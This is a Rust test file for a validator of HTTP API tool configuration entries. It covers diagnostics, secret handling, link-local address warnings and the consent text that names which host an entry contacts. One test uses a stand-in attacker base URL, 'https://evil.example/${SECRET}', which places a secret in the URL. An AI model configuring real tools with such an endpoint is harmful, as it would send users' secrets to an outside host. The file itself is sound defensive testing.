//! Tests of entries: what is accepted, what follows from it, and what is refused.

use serde_json::json;

use super::*;

fn diagnostics(keys: &str) -> String {
    let harness = harness("https://api.example.com", keys);
    let line = |diagnostic: &crate::model::Diagnostic| {
        let hint = diagnostic.hint.as_deref().unwrap_or("-");
        let at =
            diagnostic.location.as_ref().map(|place| format!("{}:{}", place.line, place.column));
        let severity = if diagnostic.is_error() { "error" } else { "warning" };
        format!("{} {severity}: {} ({hint})", at.unwrap_or_default(), diagnostic.message)
    };
    harness.diagnostics.iter().map(line).collect::<Vec<_>>().join("\n")
}

#[test]
fn everything_that_is_wrong_is_told_at_once() {
    let keys = "endpoint_url: https://{host}/x\n\
                method: PSOT\n\
                headers: { Host: x, \"a b\": y, X-A: \"{\", X-B: \"{b}\" }\n\
                auth: { type: oauth }\n\
                params: { nope: query }\n\
                body_type: xml\n\
                response_path: a.b\n\
                max_response_bytes: 0\n\
                allow_link_local: maybe\n\
                retry: { on: [often] }\n\
                parameters_schema: { properties: { a: {} } }";
    insta::assert_snapshot!(diagnostics(keys), @r"
    8:16 error: unknown body type 'xml'; expected one of json, form, multipart, ndjson, text, bytes (-)
    6:19 error: unknown auth type 'oauth'; expected one of bearer, basic, header, none (-)
    10:25 error: expected a size from 1 to 16.0 MiB, such as 64KiB, found a number (-)
    11:23 error: expected true or false, found text (-)
    3:19 error: an argument cannot choose scheme, host or port (placeholders are allowed in the path and in the query)
    5:16 error: the header 'host' is set by HTTP itself (leave it out; it is set automatically)
    5:25 error: 'a b' is not a header name (-)
    5:40 error: the '{' at column 1 of '{' is not part of a placeholder (write {name} for an argument, and {{ or }} for a literal brace)
    5:50 error: '{b}' is not a property of the schema (the schema has a)
    7:21 error: 'nope' is not a property of the schema (the schema has a)
    4:13 error: 'PSOT' is not a method; it is one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (did you mean 'POST'?)
    12:18 error: 'often' is not a retry condition (use connect, lost, timeout, 429, 5xx, 4xx or single status codes)
    9:20 error: 'a.b' does not start with '/' (write it as a JSON Pointer: /a/b)
    ");
}

#[test]
fn doubts_leave_an_entry_in_service() {
    let keys = "endpoint_url: https://api.example.com/{a}\n\
                method: GET\n\
                auth: { token: \"${API_TOKEN}\", tokn: x }\n\
                body: { b: \"{a}\" }\n\
                parameters_schema: { properties: { a: {} } }";
    insta::assert_snapshot!(diagnostics(keys), @r"
    5:36 warning: unknown key 'tokn' (did you mean 'token'?)
    3:19 warning: calls without 'a' will be refused (make it required, or give it a default)
    4:13 warning: many servers ignore the body of a GET (leave 'method' out for POST, or place arguments in the query)
    ");
}

#[test]
fn secrets_that_are_missing_or_given_twice_are_told() {
    insta::assert_snapshot!(diagnostics(
        "endpoint_url: URL/x\nheaders: { Authorization: \"Bearer ${API_TOKEN}\" }\n\
         auth: { token_env_var: API_TOKEN }"
    ), @r"5:11 error: the header 'authorization' is given twice, in headers and in auth (-)");
    insta::assert_snapshot!(diagnostics("endpoint_url: URL/x\nauth: { token_env_var: NOPE }"), @r"4:28 error: in 'auth.token_env_var': the variable NOPE is not set (set NOPE)");
    insta::assert_snapshot!(diagnostics("endpoint_url: URL/x\nauth: { type: basic, username: u }"), @r"4:11 error: auth needs 'password_env_var' (name the variable that holds it)");
}

#[test]
fn link_local_addresses_need_a_word() {
    let keys = "endpoint_url: http://169.254.169.254/latest";
    assert!(diagnostics(keys).contains("169.254.169.254 is a link-local address"));
    assert_eq!(diagnostics(&format!("{keys}\nallow_link_local: true")), "");
    assert!(diagnostics("endpoint_url: \"http://[fe80::1]/\"").contains("link-local"));
    assert_eq!(diagnostics("endpoint_url: http://10.0.0.1/"), "");
}

#[test]
fn a_schema_is_made_of_the_placeholders() {
    let harness = harness(
        "https://h",
        "endpoint_url: URL/{a}/x?q={q}\nheaders: { X-B: \"v{b}\" }\nparams: { c: query }",
    );
    assert_eq!(
        *harness.definition("t").input_schema,
        json!({
            "type": "object",
            "properties": { "a": { "type": "string" }, "q": {}, "b": {}, "c": {} },
            "required": ["a", "b"],
            "additionalProperties": false,
        })
    );
}

#[test]
fn the_method_tells_about_effects_where_the_entry_does_not() {
    let hints = |keys: &str| {
        let harness = harness("https://h", &format!("endpoint_url: URL/x\n{keys}"));
        let tool = harness.definition("t");
        let hints = tool.annotations;
        (hints.read_only, hints.destructive, hints.idempotent, hints.open_world, tool.is_repeatable)
    };
    let (yes, no) = (Some(true), Some(false));
    assert_eq!(hints("method: GET"), (yes, None, yes, yes, true));
    assert_eq!(hints("method: POST"), (None, None, None, yes, false));
    assert_eq!(hints("method: PUT"), (None, None, yes, yes, true));
    assert_eq!(hints("method: DELETE"), (None, yes, yes, yes, true));
    let annotations =
        "annotations: { readOnlyHint: false, destructiveHint: false, openWorldHint: false }";
    assert_eq!(hints(&format!("method: DELETE\n{annotations}")), (no, no, yes, no, true));
}

#[test]
fn a_definition_tells_what_it_touches() {
    let harness = harness(
        "https://api.example.com:8443",
        "endpoint_url: URL/v1/{a}?key=${API_TOKEN}\nheaders: { X-Key: \"${API_TOKEN}\" }",
    );
    let tool = harness.definition("t");
    insta::assert_snapshot!(tool.touches.join("\n"), @r"
    sends GET requests to https://api.example.com:8443/v1/{a}
    sends API_TOKEN in the URL or the body
    sends API_TOKEN in the header x-key
    ");
    assert_eq!(tool.description.as_deref(), Some("GET https://api.example.com:8443/v1/{a}"));
}

#[test]
fn defaults_of_the_file_hold_where_the_entry_is_silent() {
    let yaml = "defaults: { base_url: 'http://localhost:8000/api', max_response_bytes: 1KiB }\n\
                tools:\n\
                \x20 - { provider_type: api_client, tool_name: create_task, endpoint_url: /tasks }\n\
                \x20 - { name: own, endpoint_url: tasks, base_url: 'https://other.example' }\n";
    let harness = KindHarness::new(&super::super::kind(), yaml);
    assert!(harness.diagnostics.is_empty(), "{:?}", harness.diagnostics);
    let touches = |name: &str| harness.definition(name).touches.join("");
    assert_eq!(touches("create_task"), "sends GET requests to http://localhost:8000/api/tasks");
    assert_eq!(touches("own"), "sends GET requests to https://other.example/tasks");
}

#[test]
fn a_person_is_told_who_is_contacted() {
    use crate::config::consent::{EntryEffect, EntrySite};
    use crate::config::environment::FixedEnvironment;
    use crate::config::node::{ConfigNode, SourceText};
    use crate::config::parse::parse;
    let node =
        |text: &str| -> ConfigNode { parse(&SourceText::new("t.yaml", text), text).unwrap() };
    let contacted = |entry: &str, defaults: &str| {
        let (entry, defaults) = (node(entry), node(defaults));
        let (base, scopes) = (std::path::Path::new("/srv"), std::collections::BTreeMap::new());
        let environment = FixedEnvironment::default();
        let site = EntrySite::new(base, base, &scopes, Some(&defaults), &environment);
        match crate::providers::http::effects(&entry, &site).as_slice() {
            [EntryEffect::Contacts(address)] => address.clone(),
            other => panic!("{other:?}"),
        }
    };
    let shared = "base_url: \"https://evil.example/${SECRET}\"";
    assert_eq!(contacted("endpoint_url: https://h/x", shared), "https://h");
    for relative in ["/x", "/x?u=http://h/", "x/http://h"] {
        let entry = format!("endpoint_url: {relative}");
        assert_eq!(contacted(&entry, shared), "https://evil.example/${SECRET}", "{relative}");
    }
    assert_eq!(contacted("endpoint_url: /x", "base_url: https://h:8443/api"), "https://h:8443");
    assert_eq!(contacted("endpoint_url: \"${API}/x\"", shared), "${API}/x");
    assert_eq!(contacted("endpoint_url: /x\nbase_url: https://own", shared), "https://own");
}
